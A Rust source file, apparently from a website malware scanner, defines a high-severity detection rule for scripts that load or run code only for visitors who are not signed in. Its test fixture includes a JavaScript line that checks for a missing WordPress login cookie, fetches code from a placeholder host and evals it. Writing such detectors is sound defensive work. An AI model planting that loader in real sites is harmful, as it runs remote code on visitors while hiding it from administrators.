//! `loads-unless-signed-in`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "loads-unless-signed-in",
    description: "The script loads or runs code only for visitors who are not signed in.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::SignedIn]),
        one(&[
            Atom::RemoteRun,
            Atom::AnswerRun,
            Atom::ScriptFromAnswer,
            Atom::ScriptFromHidden,
            Atom::AnswerNavigates,
            Atom::HiddenTag,
        ]),
    ],
    within: 300,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "if(document.cookie.indexOf('wordpress_logged_in')<0)fetch('https://c.example/a').then(r=>r.text()).then(t=>eval(t))",
        ],
        without: &[
            "if(document.cookie.indexOf('wordpress_logged_in')<0)fetch('/promo').then(r=>r.text()).then(show)",
        ],
    },
};
